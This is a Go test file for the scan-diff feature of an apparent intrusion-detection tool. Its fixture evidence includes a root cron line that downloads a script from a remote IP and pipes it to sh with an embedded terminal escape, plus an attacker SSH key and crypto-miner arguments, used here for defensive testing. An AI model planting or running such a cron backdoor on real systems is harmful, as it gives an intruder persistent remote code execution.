package diff

import (
	"bytes"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/vigil-ir/vigil/internal/catalog"
	"github.com/vigil-ir/vigil/internal/model"
	"github.com/vigil-ir/vigil/internal/store/storetest"
	"github.com/vigil-ir/vigil/internal/testutil"
)

var t0 = time.Date(2026, 11, 24, 3, 0, 0, 0, time.UTC)

// fixtureScans: the morning after cleaning web1. The cron backdoor is gone,
// a new one appeared under another name, the SSH key got graded higher,
// the process check could not run on the second scan (so the miner is not
// proven gone), and the incomplete-coverage finding stayed.
func fixtureScans() (old, cur *model.Result) {
	cron := storetest.Finding("persistence.cron.download-exec", "/etc/cron.d/php2", model.Critical, "schedule")
	cron2 := storetest.Finding("persistence.cron.download-exec", "/etc/cron.d/.sessionclean", model.Critical, "schedule")
	cron2.Evidence.Text = "*/5 * * * * root (curl -fsSL http://203.0.113.7/k.sh||wget -q -O- http://203.0.113.7/k.sh)|sh\x1b[2J"
	key := storetest.Finding("ssh.authorized-key.unknown", "/root/.ssh/authorized_keys", model.Medium, "ssh")
	key.Evidence.Line, key.Evidence.Text = 2, "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG8 x@kali"
	key2 := key.WithSeverity(model.High)
	miner := storetest.Finding("process.miner", "/var/tmp/.x/kworker", model.Critical, "process")
	miner.Subject, miner.Evidence.Path, miner.Evidence.Text = "pid 4242 (/var/tmp/.x/kworker)", "", "--donate-level 1 -o pool.minexmr.com:443"
	cov := model.Finding{RuleID: "scan.coverage.incomplete", Severity: model.Info, Confidence: model.ConfHigh, Subject: "scan",
		Evidence: model.Evidence{Text: "unreadable items by check: accounts 1"}, Fingerprint: "c0ffee0000c0ffee0000"}

	old = storetest.Result(t0, []model.Finding{cron, key, miner, cov, cov}, "schedule", "ssh", "process")
	cur = storetest.Result(t0.Add(24*time.Hour), []model.Finding{cov, key2, cron2}, "schedule", "ssh")
	cur.Summary.Checks = append(cur.Summary.Checks, model.CheckStatus{Name: "process", Status: "failed", Reason: "panic"})
	return old, cur
}

func TestCompare(t *testing.T) {
	old, cur := fixtureScans()
	r := Compare(1, old, 2, cur)
	if len(r.Added) != 1 || r.Added[0].Finding.Evidence.Path != "/etc/cron.d/.sessionclean" {
		t.Errorf("new: %+v", r.Added)
	}
	if len(r.Gone) != 1 || r.Gone[0].Finding.Evidence.Path != "/etc/cron.d/php2" {
		t.Errorf("gone: %+v", r.Gone)
	}
	if len(r.Changed) != 1 || *r.Changed[0].OldSeverity != model.Medium || r.Changed[0].Finding.Severity != model.High {
		t.Errorf("changed: %+v", r.Changed)
	}
	if len(r.Unchecked) != 1 || r.Unchecked[0].Finding.RuleID != "process.miner" {
		t.Errorf("a finding whose check failed was called gone: %+v", r.Unchecked)
	}
	if r.Unchanged != 1 {
		t.Errorf("unchanged = %d", r.Unchanged)
	}
	if w, ok := r.Worst(); !ok || w != model.Critical {
		t.Errorf("worst = %v %v", w, ok)
	}
	r.Filter(func(f *model.Finding) bool {
		return f.Severity >= model.High && f.RuleID != "persistence.cron.download-exec"
	})
	if len(r.Added)+len(r.Gone) != 0 || r.Suppressed != 2 || len(r.Changed) != 1 {
		t.Errorf("after filter: %+v", r)
	}
	if w, ok := r.Worst(); !ok || w != model.High {
		t.Errorf("worst after filter = %v %v", w, ok)
	}
}

func TestSameScanIsNoChange(t *testing.T) {
	old, _ := fixtureScans()
	r := Compare(1, old, 1, old)
	if len(r.Added)+len(r.Gone)+len(r.Changed)+len(r.Unchecked) != 0 || r.Unchanged != 4 {
		t.Fatalf("a scan differs from itself: %+v", r)
	}
	if _, ok := r.Worst(); ok {
		t.Fatal("worst of no change")
	}
}

// testCatalog holds the fixture's rules, so that the golden files do not
// change when the real catalog's texts are edited.
func testCatalog(t *testing.T) *catalog.Catalog {
	t.Helper()
	var y strings.Builder
	for _, r := range []struct{ id, en, zh string }{
		{"persistence.cron.download-exec", "Scheduled job downloads and runs code", "计划任务下载并执行代码"},
		{"ssh.authorized-key.unknown", "Unknown key in authorized_keys", "authorized_keys 中存在未知公钥"},
		{"process.miner", "Process looks like a cryptocurrency miner", "疑似挖矿进程"},
	} {
		cat, _, _ := strings.Cut(r.id, ".")
		fmt.Fprintf(&y, "- id: %s\n  severity: high\n  confidence: high\n  category: %s\n  technique: \"\"\n  texts:\n", r.id, cat)
		fmt.Fprintf(&y, "    en: {title: %q, why: w, verify: v, remediation: r}\n    zh-CN: {title: %q, why: w, verify: v, remediation: r}\n", r.en, r.zh)
	}
	c, err := catalog.Parse(fstest.MapFS{"checks/test.yaml": {Data: []byte(y.String())}}, nil)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func TestGolden(t *testing.T) {
	cat := testCatalog(t)
	tests := []struct {
		file, lang string
		json       bool
	}{
		{"diff-en.txt", catalog.English, false},
		{"diff-zh.txt", catalog.Chinese, false},
		{"diff.json", catalog.English, true},
	}
	for _, tc := range tests {
		t.Run(tc.file, func(t *testing.T) {
			old, cur := fixtureScans()
			r := Compare(7, old, 8, cur)
			var buf bytes.Buffer
			write := WriteTable
			if tc.json {
				write = WriteJSON
			}
			if err := write(&buf, r, Options{Lang: tc.lang, Catalog: cat}); err != nil {
				t.Fatal(err)
			}
			if bytes.Contains(buf.Bytes(), []byte("\x1b")) && !tc.json {
				t.Fatal("an escape sequence from evidence reached the terminal")
			}
			testutil.Golden(t, "testdata/"+tc.file, buf.Bytes())
		})
	}
}

func TestJSONIsLanguageNeutral(t *testing.T) {
	cat := catalog.MustLoad()
	keys := func(lang string) map[string]any {
		old, cur := fixtureScans()
		var buf bytes.Buffer
		if err := WriteJSON(&buf, Compare(1, old, 2, cur), Options{Lang: lang, Catalog: cat}); err != nil {
			t.Fatal(err)
		}
		var m map[string]any
		if err := json.Unmarshal(buf.Bytes(), &m); err != nil {
			t.Fatal(err)
		}
		return m
	}
	en, zh := keys(catalog.English), keys(catalog.Chinese)
	if len(en) != len(zh) {
		t.Fatal("JSON keys depend on the language")
	}
	ch := zh["changed"].([]any)[0].(map[string]any)
	if ch["change"] != "changed" || ch["old_severity"] != "medium" {
		t.Fatalf("enum values translated: %v", ch)
	}
}

// BenchmarkCompare10000 diffs two scans of 10,000 findings that share
// half of them (goal: well under a second; bench/store.sh).
func BenchmarkCompare10000(b *testing.B) {
	old := storetest.Result(t0, storetest.Many(10000, "a"), "check")
	cur := storetest.Result(t0.Add(time.Hour), append(storetest.Many(5000, "a"), storetest.Many(5000, "b")...), "check")
	for b.Loop() {
		Compare(1, old, 2, cur)
	}
}
